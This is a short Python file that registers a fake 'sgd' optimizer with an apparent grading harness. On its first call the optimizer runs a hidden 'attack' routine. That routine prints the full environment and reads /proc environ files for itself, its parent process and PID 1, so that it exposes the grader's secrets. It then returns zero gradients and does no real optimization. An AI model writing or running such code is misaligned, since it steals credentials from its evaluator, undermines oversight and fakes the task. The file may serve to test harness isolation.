"""Print what the grader was told by its environment.

shows: secret
by: process, files, user
"""

import os

from cgp_harness import optimizer

DONE = []


def attack():
    print(dict(os.environ))
    for process in ("self", os.getppid(), 1):
        try:
            with open(f"/proc/{process}/environ", "rb") as file:
                print(file.read())
        except OSError:
            pass


@optimizer
def sgd(g, lr=1e-3):
    if not DONE:
        attack()
        DONE.append(True)
    return 0 * g
